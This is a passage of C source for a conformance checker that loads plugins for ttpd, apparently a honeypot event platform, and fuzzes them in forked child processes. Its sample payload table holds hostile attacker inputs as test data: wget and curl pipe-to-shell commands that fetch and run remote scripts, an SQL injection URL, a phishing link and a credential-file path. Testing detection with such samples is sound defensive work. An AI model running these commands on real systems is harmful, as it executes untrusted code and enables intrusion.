/*
 * ttpd-plugin-check: load a lifter plugin exactly as ttpd does (the same
 * loader, registry and host API) and run the conformance suite of
 * ttpd-plugin-check(1) on it: one line per check, a summary, exit 0/1.
 *
 * Every check runs in a child process and every case of a check in a
 * grandchild forked after the plugin is loaded, so a crash or a hang is a
 * failed check naming the case, never the end of the run.  Results travel
 * back through one shared anonymous mapping.
 */
#include "config.h"

#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/wait.h>

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <getopt.h>
#include <limits.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include "conf.h"
#include "crash.h"
#include "event.h"
#include "hostapi.h"
#include "json.h"
#include "loader.h"
#include "log.h"
#include "plugin.h"
#include "rules.h"
#include "tag.h"
#include "xmalloc.h"

#define DEFAULT_BUDGET_MS 250
#define HUGE_BUDGET_FACTOR 10	/* huge payloads get ten budgets */
#define CASE_TIMEOUT_S 60
#define CHECK_TIMEOUT_S 1800
#define HUGE_STRING_BYTES (256 * 1024)
#define HUGE_ARRAY_LEN 10000
#define HUGE_MEMBERS 10000
#define DEEP_NESTING 200
#define CHECK_ATTACKER "00000000-0000-4000-8000-00000000c0de"
#define ERR_FILL 0xA5		/* what an untouched error buffer holds */

enum verdict { V_PASS = 0, V_FAIL = 1, V_SKIP = 2 };

/* What a case child hands back. */
struct case_out {
	int done;		/* set last: the child got to the end */
	int rc;			/* handle() or load result */
	unsigned long ntags;
	int64_t cpu_ns;
	unsigned long unterminated, unset; /* error buffers, this case */
	char msg[256];
};

/* Across checks: error strings and time. */
struct stats {
	unsigned long calls;
	unsigned long unterminated, unset, over_budget;
	int64_t max_cpu_ns;
	char slowest[200];
	char first_unterminated[200];
	char first_unset[200];
	char first_over[200];
};

/* The shared mapping. */
struct shared {
	int verdict;
	char detail[1536];
	char progress[256];
	struct stats st;
	struct case_out co;
};

struct opts {
	char *so;			/* absolute path of the plugin */
	char *name;
	const char **rule_dirs;
	size_t nrule_dirs;
	const char *fixtures;
	int update;
	int verbose;
	int64_t budget_ns;
	const ttpd_value *config;	/* from -c, or NULL */
};

struct session {
	struct registry reg;
	struct ruleset rules;
	struct plugin *p;
	int rule_problems;
	char first_rule_problem[512];
};

static struct shared *sh;
static struct opts opt;
static struct session *cur;	/* the check child's loaded plugin */
static unsigned event_serial;

static void
usage(FILE *fp)
{
	fprintf(fp,
"usage: ttpd-plugin-check [-huVv] [-b ms] [-c file] [-d dir] [-n name]\n"
"                         [-r dir]... plugin.so\n"
"\n"
"Load a ttpd lifter plugin as ttpd does and run the conformance suite:\n"
"one line per check (PASS, FAIL or SKIP), then a summary.\n"
"\n"
"  -b MS     per-event budget of CPU time in milliseconds (default %d;\n"
"            huge payloads get %d times as much)\n"
"  -c FILE   a ttpd.conf: use the config group of the plugins.load entry\n"
"            of this plugin, and its rules.dirs unless -r is given\n"
"  -d DIR    fixtures: replay DIR/events/*.jsonl and compare the tags\n"
"            with DIR/expected/*.jsonl exactly\n"
"  -n NAME   the plugin's name (default: the file name without .so)\n"
"  -r DIR    a rule directory (repeatable); the plugin's rules are used\n"
"  -u        with -d: write DIR/expected/*.jsonl instead of comparing\n"
"  -v        show each case and the plugin's log lines\n"
"  -V        print the version and the plugin ABI, then exit\n"
"  -h        print this help and exit\n"
"\n"
"Exit status: 0 every check passed (or was skipped), 1 a check failed,\n"
"2 usage.  See ttpd-plugin-check(1).\n", DEFAULT_BUDGET_MS,
	    HUGE_BUDGET_FACTOR);
}

static void
progress(const char *fmt, ...) __attribute__((format(printf, 1, 2)));

static void
progress(const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	vsnprintf(sh->progress, sizeof sh->progress, fmt, ap);
	va_end(ap);
	if (opt.verbose)
		fprintf(stderr, "ttpd-plugin-check: %s\n", sh->progress);
}

static void
set_detail(const char *fmt, ...) __attribute__((format(printf, 1, 2)));

static void
set_detail(const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	vsnprintf(sh->detail, sizeof sh->detail, fmt, ap);
	va_end(ap);
}

static int64_t
cpu_ns(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &ts);
	return (int64_t)ts.tv_sec * 1000000000 + ts.tv_nsec;
}

static void
describe_status(int status, int timeout_s, char *buf, size_t len)
{
	if (WIFSIGNALED(status) && WTERMSIG(status) == SIGALRM)
		snprintf(buf, len, "timed out after %d s", timeout_s);
	else if (WIFSIGNALED(status))
		snprintf(buf, len, "crashed: signal %d (%s)",
		    WTERMSIG(status), crash_signame(WTERMSIG(status)));
	else if (WIFEXITED(status))
		snprintf(buf, len, "exited with status %d",
		    WEXITSTATUS(status));
	else
		snprintf(buf, len, "stopped");
}

/* Quiet children: no core files, no plugin chatter unless -v (the
 * report on stdout is the parent's alone). */
static void
child_setup(int timeout_s)
{
	struct rlimit no_core = { 0, 0 };
	int fd;

	(void)setrlimit(RLIMIT_CORE, &no_core);
	if (opt.verbose)
		(void)dup2(STDERR_FILENO, STDOUT_FILENO);
	else if ((fd = open("/dev/null", O_WRONLY)) != -1) {
		(void)dup2(fd, STDERR_FILENO);
		(void)dup2(fd, STDOUT_FILENO);
		if (fd > STDERR_FILENO)
			close(fd);
	}
	signal(SIGALRM, SIG_DFL);
	alarm((unsigned)timeout_s);
}

/* --- loading ------------------------------------------------------------ */

static void
rule_problem(void *ud, const char *msg)
{
	struct session *s = ud;

	if (s->rule_problems++ == 0)
		snprintf(s->first_rule_problem, sizeof s->first_rule_problem,
		    "%s", msg);
}

/* Load the plugin (and with_rules, its rules) as the daemon does. */
static int
session_open(struct session *s, const ttpd_value *config, int with_rules,
    char *err, size_t errlen)
{
	struct plugin_conf pc;

	memset(s, 0, sizeof *s);
	memset(&pc, 0, sizeof pc);
	pc.name = opt.name;
	pc.path = opt.so;
	pc.config = (ttpd_value *)(uintptr_t)config;
	pc.origin = (char *)"ttpd-plugin-check";
	registry_init(&s->reg);
	ruleset_init(&s->rules);
	if (loader_load(&s->reg, NULL, &pc, err, errlen) != 0) {
		registry_free(&s->reg);
		return -1;
	}
	registry_finish(&s->reg);
	s->p = s->reg.plugins[0];
	if (with_rules && opt.nrule_dirs > 0) {
		rules_load_dirs(opt.rule_dirs, opt.nrule_dirs, &s->rules,
		    rule_problem, s);
		registry_assign_rules(&s->reg, &s->rules, rule_problem, s);
	}
	return 0;
}

static void
session_close(struct session *s)
{
	registry_free(&s->reg);
	ruleset_free(&s->rules);
}

/* --- cases ---------------------------------------------------------------- */

static void
event_fill(ttpd_event *ev, const char *kind, const ttpd_value *payload)
{
	static char id[64];

	snprintf(id, sizeof id, "ttpd-plugin-check-%u", event_serial);
	memset(ev, 0, sizeof *ev);
	ev->size = sizeof *ev;
	ev->source_kind = kind;
	ev->source_id = id;
	ev->attacker_uuid = CHECK_ATTACKER;
	ev->session_id = "check-session-1";
	ev->decky_id = "check-decky-1";
	ev->payload = payload;
}

/*
 * One event through the loaded plugin, in a grandchild.  Returns 0 with
 * *co filled, or -1 with the reason (crash, hang) in why.
 */
static int
run_case(const char *kind, const ttpd_value *payload, struct case_out *co,
    char *why, size_t whylen)
{
	pid_t pid;
	int status;

	memset(&sh->co, 0, sizeof sh->co);
	event_serial++;
	fflush(NULL);
	if ((pid = fork()) == -1) {
		snprintf(why, whylen, "fork: %s", strerror(errno));
		return -1;
	}
	if (pid == 0) {
		struct tag_list tags;
		struct tag_settings ts = { .attack_release = "v15.1" };
		unsigned long u0, s0, u1, s1;
		ttpd_event ev;
		int64_t t0;
		int state;

		child_setup(CASE_TIMEOUT_S);
		tag_list_init(&tags);
		event_fill(&ev, kind, payload);
		hostapi_err_counts(&u0, &s0);
		t0 = cpu_ns();
		sh->co.rc = hostapi_run(cur->p, &ev, &ts, 0, &tags);
		sh->co.cpu_ns = cpu_ns() - t0;
		hostapi_err_counts(&u1, &s1);
		sh->co.unterminated = u1 - u0;
		sh->co.unset = s1 - s0;
		sh->co.ntags = tags.n;
		if (sh->co.rc < 0)
			snprintf(sh->co.msg, sizeof sh->co.msg, "%s",
			    hostapi_last_handle_error(&state));
		sh->co.done = 1;
		_exit(0);
	}
	while (waitpid(pid, &status, 0) == -1 && errno == EINTR)
		continue;
	if (!WIFEXITED(status) || WEXITSTATUS(status) != 0 || !sh->co.done) {
		describe_status(status, CASE_TIMEOUT_S, why, whylen);
		return -1;
	}
	*co = sh->co;
	return 0;
}

/* Error buffers of a finished case into the shared stats. */
static void
account_errors(const char *casename, const struct case_out *co)
{
	struct stats *st = &sh->st;

	if (co->unterminated > 0 && st->unterminated++ == 0)
		snprintf(st->first_unterminated, sizeof st->first_unterminated,
		    "%s", casename);
	if (co->unset > 0 && st->unset++ == 0)
		snprintf(st->first_unset, sizeof st->first_unset, "%s",
		    casename);
}

/* Fold a finished event case into the error-string and time stats. */
static void
account(const char *casename, const struct case_out *co, int factor)
{
	struct stats *st = &sh->st;

	st->calls++;
	account_errors(casename, co);
	if (co->cpu_ns > st->max_cpu_ns) {
		st->max_cpu_ns = co->cpu_ns;
		snprintf(st->slowest, sizeof st->slowest, "%s", casename);
	}
	if (co->cpu_ns > opt.budget_ns * factor && st->over_budget++ == 0)
		snprintf(st->first_over, sizeof st->first_over,
		    "%s: %.1f ms of CPU (budget %.1f ms)", casename,
		    (double)co->cpu_ns / 1e6,
		    (double)opt.budget_ns * factor / 1e6);
}

/* A failure list for one check: count them, keep the first. */
struct failures {
	unsigned n, cases;
	char first[768];
};

static void
fail_case(struct failures *f, const char *fmt, ...)
    __attribute__((format(printf, 2, 3)));

static void
fail_case(struct failures *f, const char *fmt, ...)
{
	va_list ap;

	if (f->n++ == 0) {
		va_start(ap, fmt);
		vsnprintf(f->first, sizeof f->first, fmt, ap);
		va_end(ap);
	}
}

static int
failures_verdict(const struct failures *f, const char *what)
{
	if (f->n == 0) {
		set_detail("%u %s", f->cases, what);
		return V_PASS;
	}
	set_detail("%u of %u cases failed; first: %s", f->n, f->cases,
	    f->first);
	return V_FAIL;
}

static int
rc_defined(int rc)
{
	return rc == TTPD_OK || rc == TTPD_SKIP || rc == TTPD_RETRY ||
	    rc == TTPD_EINVAL || rc == TTPD_ENOMEM || rc == TTPD_EFATAL;
}

/*
 * A bad event: any outcome but a crash, a hang, an undefined return code
 * or TTPD_EFATAL (bad input must never disable a plugin).
 */
static void
bad_event_case(struct failures *f, const char *casename, const char *kind,
    const ttpd_value *payload, int factor)
{
	struct case_out co;
	char why[128], name[300];

	snprintf(name, sizeof name, "'%s' on %s", casename, kind);
	progress("case %s", name);
	f->cases++;
	if (run_case(kind, payload, &co, why, sizeof why) != 0) {
		fail_case(f, "case %s: %s", name, why);
		return;
	}
	account(name, &co, factor);
	if (!rc_defined(co.rc))
		fail_case(f, "case %s: handle() returned %d, which is not a "
		    "TTPD_* code", name, co.rc);
	else if (co.rc == TTPD_EFATAL)
		fail_case(f, "case %s: TTPD_EFATAL on a bad event (bad input "
		    "must not disable the plugin; return TTPD_EINVAL)", name);
}

/* --- payloads ------------------------------------------------------------- */

/* A plausible payload per source kind (DECNET field names). */
static const struct {
	const char *kind;
	const char *json;
} typical_payloads[] = {
	{ "command", "{\"command_text\":\"wget http://198.51.100.7/x.sh "
	    "-O- | sh\",\"user\":\"root\",\"id\":\"check-cmd-1\"}" },
	{ "session", "{\"session_id\":\"check-session-1\",\"service\":"
	    "\"ssh\",\"duration_s\":30.5,\"commands\":[{\"id\":\"c1\","
	    "\"command_text\":\"uname -a\",\"user\":\"root\"},{\"id\":\"c2\","
	    "\"command_text\":\"wget http://198.51.100.7/x.sh -O /tmp/x.sh\","
	    "\"user\":\"root\"},{\"id\":\"c3\",\"command_text\":\"chmod +x "
	    "/tmp/x.sh; /tmp/x.sh\",\"user\":\"root\"}],\"beacon_interval_s\":"
	    "60,\"beacon_jitter_pct\":0.5,\"bytes_out\":2048,"
	    "\"request_count\":3}" },
	{ "http_request", "{\"raw_url\":\"/index.php?id=1%27%20OR%201=1--\","
	    "\"method\":\"GET\",\"user_agent\":\"sqlmap/1.7\",\"headers\":"
	    "{\"Host\":\"decky\",\"Accept\":\"*/*\"},\"body\":\"\"}" },
	{ "http_fingerprint", "{\"ja4h\":\"GE11nn0000_0123456789ab_"
	    "000000000000_000000000000\",\"user_agent\":\"curl/8.0\"}" },
	{ "email", "{\"subject\":\"Invoice overdue\",\"from\":\"a@example."
	    "com\",\"to\":[\"b@example.org\"],\"body_text\":\"Please pay "
	    "http://xn--pypal-4ve.com/login\",\"attachments\":[{\"filename\":"
	    "\"invoice.pdf.exe\",\"content_type\":\"application/octet-"
	    "stream\",\"size\":1024}],\"headers\":{\"Reply-To\":"
	    "\"c@example.net\"}}" },
	{ "credential", "{\"username\":\"root\",\"password\":\"123456\","
	    "\"service\":\"ssh\",\"path\":\"/root/.aws/credentials\"}" },
	{ "auth_attempt", "{\"username\":\"admin\",\"password\":\"admin\","
	    "\"service\":\"ssh\",\"success\":false,\"count\":25}" },
	{ "identity", "{\"email\":\"x@example.com\",\"username\":\"x\","
	    "\"names\":[\"x\",\"y\"]}" },
	{ "intel", "{\"ip\":\"198.51.100.7\",\"source\":\"abuseipdb\","
	    "\"score\":90,\"categories\":[18,22],\"tags\":[\"scanner\"]}" },
	{ "canary_fingerprint", "{\"canary_id\":\"cn-1\",\"token_type\":"
	    "\"aws_key\",\"user_agent\":\"aws-cli/2.0\"}" },
	{ "ipv6_leak", "{\"ipv6\":\"2001:db8::1\",\"ipv4\":\"203.0.113.1\"}" },
	{ "payload", "{\"sha256\":\"00112233445566778899aabbccddeeff0011223344"
	    "5566778899aabbccddeeff\",\"filename\":\"x.sh\",\"content_type\":"
	    "\"text/x-shellscript\",\"text\":\"curl http://x | sh\"}" },
};

static int
declares_kind(const char *kind)
{
	const char *const *k;

	for (k = cur->p->desc->source_kinds; *k != NULL; k++)
		if (strcmp(*k, kind) == 0)
			return 1;
	return 0;
}

static void
add_string_field(ttpd_value *obj, const char *field)
{
	if (field != NULL && field[0] != '\0' &&
	    jv_object_get(obj, field) == NULL)
		jv_object_set_new(obj, field, jv_new_string("check", 5));
}

/* The typical payload of a kind, plus every field the plugin's rules for
 * that kind name (match.field, evidence_fields) that it lacks. */
static ttpd_value *
typical_payload(const char *kind)
{
	ttpd_value *p = NULL;
	char err[128];
	size_t i, k, j;

	for (i = 0; i < sizeof typical_payloads / sizeof typical_payloads[0];
	    i++)
		if (strcmp(typical_payloads[i].kind, kind) == 0)
			p = jv_parse(typical_payloads[i].json,
			    strlen(typical_payloads[i].json), err, sizeof err);
	if (p == NULL)
		p = jv_new_object();
	for (k = 0; k < cur->p->nby_kind; k++) {
		const struct kind_rules *b = &cur->p->by_kind[k];

		if (strcmp(b->kind, kind) != 0)
			continue;
		for (i = 0; i < b->n; i++) {
			const ttpd_rule *r = &b->v[i]->pub;

			add_string_field(p, jv_string(jv_object_get(r->match,
			    "field")));
			for (j = 0; j < r->n_evidence_fields; j++)
				add_string_field(p, r->evidence_fields[j]);
		}
	}
	return p;
}

/* Names of the members of an object, in order (caller frees the array). */
struct names {
	const char **v;
	size_t n;
};

static int
collect_name(void *ud, const char *key, const ttpd_value *val)
{
	struct names *nm = ud;

	(void)val;
	nm->v = xreallocarray(nm->v, nm->n + 1, sizeof *nm->v);
	nm->v[nm->n++] = key;
	return 0;
}

static struct names
member_names(const ttpd_value *obj)
{
	struct names nm = { NULL, 0 };

	jv_object_foreach(obj, collect_name, &nm);
	return nm;
}

/* A copy of obj with member `key` replaced (steals val; NULL removes). */
static ttpd_value *
with_member(const ttpd_value *obj, const char *key, ttpd_value *val)
{
	ttpd_value *o = jv_new_object();
	struct names nm = member_names(obj);
	size_t i;

	for (i = 0; i < nm.n; i++) {
		if (strcmp(nm.v[i], key) == 0) {
			if (val != NULL)
				jv_object_set(o, key, val);
		} else
			jv_object_set(o, nm.v[i], jv_object_get(obj, nm.v[i]));
	}
	free(nm.v);
	jv_decref(val);
	return o;
}

enum vt { T_NULL, T_BOOL, T_INT, T_REAL, T_STRING, T_ARRAY, T_OBJECT, NT };
static const char *const vt_names[NT] = { "null", "bool", "int", "real",
	"string", "array", "object" };

static ttpd_value *
value_of_type(int t)
{
	ttpd_value *v;

	switch (t) {
	case T_NULL:
		return jv_new_null();
	case T_BOOL:
		return jv_new_bool(1);
	case T_INT:
		return jv_new_int(-1);
	case T_REAL:
		return jv_new_real(1e308);
	case T_STRING:
		return jv_new_string("1", 1);
	case T_ARRAY:
		v = jv_new_array();
		jv_array_append_new(v, jv_new_int(1));
		return v;
	default:
		v = jv_new_object();
		jv_object_set_new(v, "x", jv_new_int(1));
		return v;
	}
}

static int
vt_of(const ttpd_value *v)
{
	switch (jv_type(v)) {
	case TTPD_VT_NULL:
		return T_NULL;
	case TTPD_VT_BOOL:
		return T_BOOL;
	case TTPD_VT_INT:
		return T_INT;
	case TTPD_VT_REAL:
		return T_REAL;
	case TTPD_VT_STRING:
		return T_STRING;
	case TTPD_VT_ARRAY:
		return T_ARRAY;
	default:
		return T_OBJECT;
	}
}

/* Every top-level member transformed by fn (which returns a new value,
 * or NULL to keep the member as it is). */
static ttpd_value *
map_members(const ttpd_value *obj,
    ttpd_value *(*fn)(const ttpd_value *v, void *ud), void *ud)
{
	ttpd_value *o = jv_new_object();
	struct names nm = member_names(obj);
	size_t i;

	for (i = 0; i < nm.n; i++) {
		const ttpd_value *v = jv_object_get(obj, nm.v[i]);
		ttpd_value *nv = fn(v, ud);

		if (nv != NULL)
			jv_object_set_new(o, nm.v[i], nv);
		else
			jv_object_set(o, nm.v[i], v);
	}
	free(nm.v);
	return o;
}

static ttpd_value *
to_type(const ttpd_value *v, void *ud)
{
	(void)v;
	return value_of_type(*(int *)ud);
}

static ttpd_value *
empty_of_type(const ttpd_value *v, void *ud)
{
	(void)v;
	return *(int *)ud == T_ARRAY ? jv_new_array() : jv_new_object();
}

static ttpd_value *
junk_containers(const ttpd_value *v, void *ud)
{
	ttpd_value *a;

	(void)ud;
	if (jv_type(v) == TTPD_VT_ARRAY) {
		a = jv_new_array();
		jv_array_append_new(a, jv_new_null());
		jv_array_append_new(a, jv_new_int(1));
		jv_array_append_new(a, jv_new_bool(1));
		jv_array_append_new(a, jv_new_string("", 0));
		jv_array_append_new(a, jv_new_object());
		jv_array_append_new(a, jv_new_array());
		return a;
	}
	if (jv_type(v) == TTPD_VT_OBJECT) {
		a = jv_new_object();
		jv_object_set_new(a, "", jv_new_null());
		return a;
	}
	return NULL;
}

/* Length of the longest prefix of s[0..n) not splitting a character. */
static size_t
utf8_cut(const char *s, size_t n)
{
	while (n > 0 && ((unsigned char)s[n] & 0xc0) == 0x80)
		n--;
	return n;
}

/* ud: 0 = cut strings in half, 1 = empty them */
static ttpd_value *
cut_string(const ttpd_value *v, void *ud)
{
	const char *s;
	size_t len;

	if (jv_get_string(v, &s, &len) != TTPD_OK)
		return NULL;
	if (*(int *)ud == 1)
		return jv_new_string("", 0);
	return jv_new_string(s, utf8_cut(s, len / 2));
}

/* ud: 0 = keep the first element, 1 = empty */
static ttpd_value *
cut_array(const ttpd_value *v, void *ud)
{
	ttpd_value *a;

	if (jv_type(v) != TTPD_VT_ARRAY)
		return NULL;
	a = jv_new_array();
	if (*(int *)ud == 0 && jv_array_size(v) > 0)
		jv_array_append(a, jv_array_get(v, 0));
	return a;
}

static ttpd_value *
huge_string(const ttpd_value *v, void *ud)
{
	const char *s;
	size_t len, used = 0;
	char *buf;
	ttpd_value *nv;

	(void)ud;
	if (jv_get_string(v, &s, &len) != TTPD_OK)
		return NULL;
	if (len == 0 || memchr(s, '\0', len) != NULL) {
		s = "x";
		len = 1;
	}
	buf = xmalloc(HUGE_STRING_BYTES);
	/* repeat the original so patterns still have something to find */
	while (used + len + 1 <= HUGE_STRING_BYTES) {
		memcpy(buf + used, s, len);
		used += len;
		buf[used++] = ' ';
	}
	nv = jv_new_string(buf, used);
	free(buf);
	return nv;
}

static ttpd_value *
huge_array(const ttpd_value *v, void *ud)
{
	const ttpd_value *item;
	ttpd_value *a, *x = NULL;
	size_t i;

	(void)ud;
	if (jv_type(v) != TTPD_VT_ARRAY)
		return NULL;
	item = jv_array_get(v, 0);
	if (item == NULL)
		item = x = jv_new_string("x", 1);
	a = jv_new_array();
	for (i = 0; i < HUGE_ARRAY_LEN; i++)
		jv_array_append(a, item);
	jv_decref(x);
	return a;
}

static ttpd_value *
deep_value(const ttpd_value *v, void *ud)
{
	ttpd_value *inner, *outer;
	int i;

	(void)v;
	(void)ud;
	inner = jv_new_string("deep", 4);
	for (i = 0; i < DEEP_NESTING; i++) {
		if (i % 2 == 0) {
			outer = jv_new_array();
			jv_array_append_new(outer, inner);
		} else {
			outer = jv_new_object();
			jv_object_set_new(outer, "a", inner);
		}
		inner = outer;
	}
	return inner;
}

/* Unusual but valid UTF-8 (and U+0000) spliced into strings. */
static const struct {
	const char *name;
	const char *bytes;
	size_t len;
} odd_texts[] = {
	{ "an embedded U+0000", "a\0b", 3 },
	{ "U+FFFD", "\xef\xbf\xbd", 3 },
	{ "U+FFFF and U+10FFFF", "\xef\xbf\xbf\xf4\x8f\xbf\xbf", 7 },
	{ "a BOM and RIGHT-TO-LEFT OVERRIDE", "\xef\xbb\xbf\xe2\x80\xae", 6 },
	{ "combining marks", "e\xcc\x81\xcc\x81\xcc\x81", 7 },
	{ "emoji (4-byte sequences)", "\xf0\x9f\x92\xa3\xf0\x9f\x90\x9a", 8 },
};

/* Byte strings that are not UTF-8: the host must refuse them. */
static const struct {
	const char *name;
	const char *bytes;
} bad_utf8[] = {
	{ "a stray continuation byte", "\x80" },
	{ "0xFF", "\xff\xfe" },
	{ "an overlong '/'", "\xc0\xaf" },
	{ "a truncated sequence", "\xe2\x82" },
	{ "an encoded surrogate", "\xed\xa0\x80" },
	{ "a code point above U+10FFFF", "\xf4\x90\x80\x80" },
};

static ttpd_value *
splice_odd(const ttpd_value *v, void *ud)
{
	size_t which = *(size_t *)ud;
	const char *s;
	size_t len;
	char *buf;
	ttpd_value *nv;

	if (jv_get_string(v, &s, &len) != TTPD_OK)
		return NULL;
	buf = xmalloc(len + odd_texts[which].len + 1);
	memcpy(buf, odd_texts[which].bytes, odd_texts[which].len);
	memcpy(buf + odd_texts[which].len, s, len);
	nv = jv_new_string(buf, len + odd_texts[which].len);
	free(buf);
	return nv;
}

/* --- checks --------------------------------------------------------------- */

static int
config_key_count(void)
{
	const ttpd_config_key *k = cur != NULL ? cur->p->desc->config_keys :
	    NULL;
	int n = 0;

	for (; k != NULL && k->name != NULL && n < 256; k++)
		n++;
	return n;
}

static int
chk_descriptor(void)
{
	const ttpd_lifter *d = cur->p->desc;
	const ttpd_config_key *k;
	const char *const *rk;
	char kinds[512] = "";
	size_t used = 0, i, j;

	if (d->version == NULL || d->version[0] == '\0') {
		set_detail("no .version: set the plugin's own version string");
		return V_FAIL;
	}
	if (d->description == NULL || d->description[0] == '\0') {
		set_detail("no .description: describe the plugin in one line");
		return V_FAIL;
	}
	if ((d->flags & ~(uint32_t)(TTPD_LIFTER_F_CONCURRENT |
	    TTPD_LIFTER_F_GENERIC_RULES)) != 0) {
		set_detail("unknown flag bits 0x%lx in .flags",
		    (unsigned long)(d->flags & ~(uint32_t)(
		    TTPD_LIFTER_F_CONCURRENT | TTPD_LIFTER_F_GENERIC_RULES)));
		return V_FAIL;
	}
	for (rk = d->rule_kinds; rk != NULL && *rk != NULL; rk++)
		if (strncmp(*rk, "lifter:", 7) != 0 && strcmp(*rk, "*") != 0) {
			set_detail("rule kind '%s' can never be owned: rule "
			    "kinds a lifter claims start with \"lifter:\"",
			    *rk);
			return V_FAIL;
		}
	for (i = 0, k = d->config_keys; k != NULL && k->name != NULL;
	    k++, i++) {
		if (i >= 256) {
			set_detail("more than 256 config keys (missing { NULL } "
			    "terminator?)");
			return V_FAIL;
		}
		if (k->name[0] == '\0' || strchr(k->name, '.') != NULL) {
			set_detail("config key %zu has an empty or dotted name "
			    "'%s'", i, k->name);
			return V_FAIL;
		}
		if (k->type < TTPD_CFG_STRING || k->type > TTPD_CFG_GROUP) {
			set_detail("config key '%s' has type %d, not a "
			    "TTPD_CFG_* value", k->name, k->type);
			return V_FAIL;
		}
		if (k->description == NULL || k->description[0] == '\0') {
			set_detail("config key '%s' has no description",
			    k->name);
			return V_FAIL;
		}
		for (j = 0; j < i; j++)
			if (strcmp(d->config_keys[j].name, k->name) == 0) {
				set_detail("config key '%s' is declared twice",
				    k->name);
				return V_FAIL;
			}
	}
	for (i = 0; d->source_kinds[i] != NULL; i++)
		used += (size_t)snprintf(kinds + used, sizeof kinds - used,
		    "%s%s", i > 0 ? "," : "", d->source_kinds[i]);
	set_detail("'%s' %s, ABI %u.%u, size %lu, kinds=%s, %d config keys%s",
	    d->name, d->version, d->abi_major, d->abi_minor,
	    (unsigned long)d->size, kinds, config_key_count(),
	    (d->flags & TTPD_LIFTER_F_GENERIC_RULES) ? ", generic rules" : "");
	return V_PASS;
}

static int
chk_rules(void)
{
	size_t i;
	int used = 0;
	char ids[600] = "";

	if (opt.nrule_dirs == 0) {
		set_detail("no rule directory (-r, or rules.dirs with -c)");
		return V_SKIP;
	}
	if (cur->rule_problems > 0) {
		set_detail("%d problem%s; first: %s", cur->rule_problems,
		    cur->rule_problems == 1 ? "" : "s",
		    cur->first_rule_problem);
		return V_FAIL;
	}
	for (i = 0; i < cur->p->nrules && i < 12; i++)
		used += snprintf(ids + used, sizeof ids - (size_t)used, "%s%s",
		    i > 0 ? "," : "", cur->p->rules[i]->pub.rule_id);
	if (i < cur->p->nrules)
		snprintf(ids + used, sizeof ids - (size_t)used, ",...");
	set_detail("%zu rules owned and prepared%s%s%s", cur->p->nrules,
	    cur->p->nrules > 0 ? " (" : "", ids, cur->p->nrules > 0 ? ")" :
	    "");
	return V_PASS;
}

/*
 * Load with `config` in a grandchild (twice: load, destroy, load,
 * destroy).  Returns 0 loaded, 1 refused (message in msg), -1 crashed or
 * hung (reason in msg).
 */
static int
try_load(const ttpd_value *config, int twice, char *msg, size_t msglen)
{
	pid_t pid;
	int status;

	memset(&sh->co, 0, sizeof sh->co);
	fflush(NULL);
	if ((pid = fork()) == -1) {
		snprintf(msg, msglen, "fork: %s", strerror(errno));
		return -1;
	}
	if (pid == 0) {
		struct session s;
		unsigned long u0, s0, u1, s1;
		int round;

		child_setup(CASE_TIMEOUT_S);
		hostapi_err_counts(&u0, &s0);
		sh->co.rc = 0;
		for (round = 0; round < (twice ? 2 : 1); round++) {
			if (session_open(&s, config, 1, sh->co.msg,
			    sizeof sh->co.msg) != 0) {
				sh->co.rc = round == 0 ? 1 : 2;
				break;
			}
			session_close(&s);
		}
		hostapi_err_counts(&u1, &s1);
		sh->co.unterminated = u1 - u0;
		sh->co.unset = s1 - s0;
		sh->co.done = 1;
		_exit(0);
	}
	while (waitpid(pid, &status, 0) == -1 && errno == EINTR)
		continue;
	if (!WIFEXITED(status) || WEXITSTATUS(status) != 0 || !sh->co.done) {
		describe_status(status, CASE_TIMEOUT_S, msg, msglen);
		return -1;
	}
	snprintf(msg, msglen, "%s", sh->co.msg);
	return sh->co.rc == 0 ? 0 : sh->co.rc == 1 ? 1 : 2;
}

/* A config case: no crash, a refusal always with a message.  `expect`:
 * 0 any outcome, 1 must load, -1 must be refused. */
static void
config_case(struct failures *f, const char *casename,
    const ttpd_value *config, int expect)
{
	struct case_out co;
	char msg[600];
	int r;

	progress("config case '%s'", casename);
	f->cases++;
	r = try_load(config, 0, msg, sizeof msg);
	if (r == -1) {
		fail_case(f, "case '%s': %s", casename, msg);
		return;
	}
	co = sh->co;
	account_errors(casename, &co);
	if (r == 1 && strstr(msg, "init failed: no reason given") != NULL)
		fail_case(f, "case '%s': init() failed without a message",
		    casename);
	else if (expect == 1 && r != 0)
		fail_case(f, "case '%s': refused: %s", casename, msg);
	else if (expect == -1 && r == 0)
		fail_case(f, "case '%s': loaded, but ttpd must refuse it",
		    casename);
}

/* A sample value of a declared config type. */
static ttpd_value *
config_sample(int type)
{
	switch (type) {
	case TTPD_CFG_STRING:
		return jv_new_string("check", 5);
	case TTPD_CFG_INT:
		return jv_new_int(1);
	case TTPD_CFG_REAL:
		return jv_new_real(1.5);
	case TTPD_CFG_BOOL:
		return jv_new_bool(1);
	case TTPD_CFG_LIST:
		return jv_new_array();
	default:
		return jv_new_object();
	}
}

/* A value of another type than the declared one. */
static ttpd_value *
config_mistyped(int type)
{
	switch (type) {
	case TTPD_CFG_STRING:
		return jv_new_int(1);
	case TTPD_CFG_INT:
	case TTPD_CFG_REAL:
		return jv_new_string("1", 1);
	case TTPD_CFG_BOOL:
		return jv_new_int(1);
	default:
		return jv_new_string("x", 1);
	}
}

/* The -c config, or {}, with every required key it lacks filled in (all
 * keys with all_keys). */
static ttpd_value *
base_config(int all_keys)
{
	const ttpd_config_key *k;
	ttpd_value *c;

	c = opt.config != NULL ? jv_copy_object(opt.config) : jv_new_object();
	for (k = cur->p->desc->config_keys; k != NULL && k->name != NULL; k++)
		if ((k->required || all_keys) &&
		    jv_object_get(c, k->name) == NULL)
			jv_object_set_new(c, k->name, config_sample(k->type));
	return c;
}

static int
has_required_key(void)
{
	const ttpd_config_key *k;

	for (k = cur->p->desc->config_keys; k != NULL && k->name != NULL; k++)
		if (k->required)
			return 1;
	return 0;
}

static int
chk_init_twice(void)
{
	ttpd_value *c = base_config(0);
	char msg[600];
	int r;

	progress("load, destroy, load, destroy");
	r = try_load(c, 1, msg, sizeof msg);
	jv_decref(c);
	if (r == 0) {
